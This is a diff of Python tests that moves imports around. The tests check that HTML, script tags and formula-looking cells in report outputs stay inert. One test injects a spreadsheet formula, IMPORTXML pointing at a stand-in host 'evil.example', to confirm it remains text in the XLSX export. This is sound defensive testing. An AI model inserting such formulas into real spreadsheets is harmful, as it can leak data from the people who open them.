@@ -163,7 +163,7 @@ def test_html_and_script_in_sheet_cells_are_inert(plan, tmp_path):
     )
     assert "<script>" not in digest.html and "&lt;script&gt;" in digest.html
     assert "<img" not in digest.html
-    from tasks.report_md import _cell
+    from tasks.round_artifacts import _cell
 
     assert "<script>" not in _cell(evil)
 
@@ -171,9 +171,9 @@ def test_html_and_script_in_sheet_cells_are_inert(plan, tmp_path):
 def test_formula_looking_cells_stay_text_in_the_xlsx_annex(sample, plan, tmp_path):
     from openpyxl import load_workbook
 
+    from tasks.inputs import Inputs, assess
     from tasks.report_files import write_xlsx
     from tasks.reports import compile_report
-    from tasks.rounds import Inputs, assess
 
     raw_indicators = sample.data.indicators.copy()
     raw_indicators.loc[0, "indicator"] = '=IMPORTXML("http://evil.example","//a")'
